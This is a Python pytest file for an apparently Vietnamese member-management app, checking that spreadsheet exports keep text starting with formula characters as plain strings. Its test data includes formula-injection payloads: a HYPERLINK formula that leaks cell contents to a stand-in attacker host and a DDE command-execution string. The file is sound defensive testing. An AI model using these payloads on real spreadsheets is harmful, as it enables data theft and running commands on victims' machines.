"""Formula injection: user text starting with = + - @ tab or CR is exported as plain
text. Round trip through the real exports, read back with openpyxl, and the sheet XML
searched for formula elements."""

from __future__ import annotations

import re
import zipfile

from openpyxl import load_workbook

from chibo_app.core.member_import import ImportPreview, ImportRow, RowStatus
from chibo_app.core.people import Person, Position, PositionKind
from chibo_app.core.text import clean
from chibo_app.services import cell, people
from chibo_app.services.members_export import export_members
from chibo_app.services.members_import import preview_file, save_problem_rows
from chibo_app.storage import records, settings_repo
from tests.hostile import hostile_files as hf

# Each starts with a character a spreadsheet program may take for a formula.
RISKY = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=cmd|'/c calc'!A1",
    "\r=2*3",
]


def as_read_back(text: str) -> str:
    """XML turns a raw CR into LF when read; the exports store CR as LF on purpose
    (safe_cells.storable). Everything else comes back exactly."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def formula_elements(path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        found = []
        for name in sheets:
            found += re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name))
    return [f.decode() for f in found]


def cells_holding(path, texts):
    sheet = load_workbook(path).active
    by_value = {}
    for row in sheet.iter_rows():
        for c in row:
            if isinstance(c.value, str):
                by_value.setdefault(c.value, []).append(c)
    return {text: by_value.get(as_read_back(text), []) for text in texts}


def test_member_export_round_trip(session, tmp_path):
    # Validation keeps such text out of names (letters only), and clean() trims a
    # leading tab; an older or hand-edited file may still hold it, so it is written
    # straight to the tables here.
    settings_repo.write_many(session.db, session.editor, {"cell_name": RISKY[1]})
    unit_ids = [
        records.insert(session.db, session.editor, "units", {"name": text, "sort_order": i})
        for i, text in enumerate(RISKY)
    ]
    for i, (text, unit_id) in enumerate(zip(RISKY, unit_ids, strict=True)):
        person_id = records.insert(
            session.db,
            session.editor,
            "people",
            Person(full_name=text, unit_id=unit_id, party_card=f"1200{i:04d}").to_row(),
        )
        people.save_position(
            session, Position(person_id, PositionKind.GOVERNMENT, RISKY[-1 - i] + " (chức vụ)")
        )
    # A unit typed in the interface goes through clean(), and stays text too.
    typed = cell.add_unit(session, "@Phòng Lãnh sự")
    people.save_person(session, Person(full_name="Nguyễn Văn An", unit_id=typed))

    target = tmp_path / "danh sach.xlsx"
    assert export_members(session, target) == len(RISKY) + 1

    # Positions go through the service, whose clean() trims the leading tab / CR.
    positions = [clean(t + " (chức vụ)") for t in RISKY]
    expected = [*RISKY, *positions, "@Phòng Lãnh sự", RISKY[1].upper()]
    found = cells_holding(target, expected)
    missing = [t for t, cells in found.items() if not cells]
    assert missing == []
    assert all(c.data_type == "s" for cells in found.values() for c in cells)
    assert formula_elements(target) == []


def test_problem_rows_round_trip(session, tmp_path):
    rows = [
        ImportRow(
            row_number=n,
            status=RowStatus.INVALID,
            reasons=[text],  # a reason quoting the bad value, as the import does
            person=Person(full_name=""),
            raw={"full_name": text, "unit": text, "notes": text},
        )
        for n, text in enumerate(RISKY, start=2)
    ]
    preview = ImportPreview(
        file_name="x.xlsx",
        sheet_name="Danh sách",
        header_row=1,
        encoding=None,
        columns={"full_name": 1, "unit": 2, "notes": 3},
        labels={1: "Họ và tên", 2: "=Đơn vị", 3: "-Ghi chú"},
        signature="s",
        rows=rows,
    )
    target = tmp_path / "loi.xlsx"
    assert save_problem_rows(preview, target) == len(RISKY)
    found = cells_holding(target, [*RISKY, "=Đơn vị", "-Ghi chú"])
    assert [t for t, cells in found.items() if not cells] == []
    # Each text appears as the reason and under its three columns.
    assert all(len(found[t]) == 4 for t in RISKY)
    assert all(c.data_type == "s" for cells in found.values() for c in cells)
    assert formula_elements(target) == []


def test_problem_rows_from_a_real_import(session, tmp_path):
    """Risky text read from a file (as inline strings) comes back out as text."""
    bad = ["=1+1", "+84 912", "-5", "@A1"]
    sheet_rows = [hf.row_xml(1, hf.HEADER)] + [
        hf.row_xml(n, [n - 1, text, "05/09/1980", f"3000{n:04d}", text])
        for n, text in enumerate(bad, start=2)
    ]
    source = hf.raw_xlsx(tmp_path / "vao.xlsx", hf.sheet_xml(sheet_rows))
    preview = preview_file(session, source)
    assert {r.status for r in preview.rows} == {RowStatus.INVALID}
    target = tmp_path / "ra.xlsx"
    save_problem_rows(preview, target)
    found = cells_holding(target, bad)
    assert all(len(found[t]) == 2 and all(c.data_type == "s" for c in found[t]) for t in bad)
    assert formula_elements(target) == []


def test_the_check_sees_a_formula(tmp_path):
    """formula_elements would catch a real formula (the test is not vacuous)."""
    from openpyxl import Workbook  # noqa: PLC0415

    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    workbook.save(tmp_path / "f.xlsx")
    assert formula_elements(tmp_path / "f.xlsx") == ["<f>"]
